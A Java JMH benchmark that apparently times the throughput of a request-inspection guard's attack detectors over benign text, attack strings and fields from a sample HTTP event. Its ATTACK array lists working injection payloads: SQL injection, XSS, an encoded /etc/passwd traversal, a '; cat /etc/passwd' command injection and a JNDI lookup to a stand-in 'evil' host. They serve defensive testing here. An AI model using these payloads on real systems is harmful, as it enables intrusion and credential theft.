package dev.fnguard.benchmarks;

import dev.fnguard.detect.Detector;
import dev.fnguard.detect.internal.Inspector;
import dev.fnguard.detect.internal.Inspector.FieldKind;
import dev.fnguard.detect.internal.Work;
import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.Blackhole;

/**
 * Inspection throughput of all detectors over one 64 KiB batch of strings: benign text, attack
 * payloads, or the strings the guard inspects in the 1 KB HTTP benchmark event (its headers with the
 * 586-character bearer header, query, cookies and body fields, as {@code HttpOverheadBenchmark} sends
 * them). MB/s = 0.0625 MiB x ops/s (each op inspects {@link #BATCH_BYTES} of text).
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 5, time = 1)
@Fork(1)
public class DetectionBenchmark {

    /** Bytes of text inspected per operation. */
    public static final int BATCH_BYTES = 64 * 1024;

    private static final String[] BENIGN = {"I really feel like this is New Orleans.", "O'Brien", "select a size",
        "8128 S. DR MARTIN LUTHER KING JR Drive", "Please leave the parcel with the neighbour at no. 12, thanks!",
        "Rock 'n' roll & blues; 50% off", "https://example.com/products?id=42&ref=home"};
    private static final String[] ATTACK = {"1' OR '1'='1' --", "-7511)) as xqzf where 9939=9939 union all select 9939,9939--",
        "<svg/onload=alert(1)>", "%252e%252e%252fetc%252fpasswd", "; cat /etc/passwd", "${jndi:ldap://evil/a}",
        "&lt;img src=x onerror=alert(1)&gt;", "{\"$where\":\"sleep(1000)\"}"};

    @Param({"benign", "attack", "event"})
    public String text;

    private String[] batch;
    private Inspector inspector;

    @Setup
    public void setUp() {
        String[] source = text.equals("benign") ? BENIGN : text.equals("attack") ? ATTACK : eventStrings();
        java.util.List<String> out = new java.util.ArrayList<>();
        int bytes = 0;
        for (int i = 0; bytes < BATCH_BYTES; i++) {
            String s = source[i % source.length];
            out.add(s);
            bytes += s.getBytes(StandardCharsets.UTF_8).length;
        }
        batch = out.toArray(new String[0]);
        inspector = new Inspector(EnumSet.allOf(Detector.class));
    }

    /** The strings of the 1 KB benchmark event the detect check reads (values and keys). */
    private static String[] eventStrings() {
        try {
            com.fasterxml.jackson.databind.ObjectMapper m = new com.fasterxml.jackson.databind.ObjectMapper();
            com.fasterxml.jackson.databind.JsonNode e = m.readTree(HttpOverheadBenchmark.oneKilobyteEvent(
                    dev.fnguard.examples.drill.DrillTokens.create().valid()));
            java.util.List<String> out = new java.util.ArrayList<>();
            for (String part : new String[] {"headers", "queryStringParameters", "pathParameters"}) {
                if (e.has(part)) {
                    e.get(part).fields().forEachRemaining(f -> {
                        out.add(f.getKey());
                        out.add(f.getValue().asText());
                    });
                }
            }
            e.path("cookies").forEach(c -> out.add(c.asText()));
            m.readTree(e.get("body").asText()).fields().forEachRemaining(f -> {
                out.add(f.getKey());
                out.add(f.getValue().asText());
            });
            return out.toArray(new String[0]);
        } catch (java.io.IOException ex) {
            throw new java.io.UncheckedIOException(ex);
        }
    }

    /** Inspects the whole batch. */
    @Benchmark
    public void inspectBatch(Blackhole bh) {
        for (String s : batch) {
            bh.consume(inspector.inspect(s, FieldKind.VALUE, new Work()));
        }
    }
}
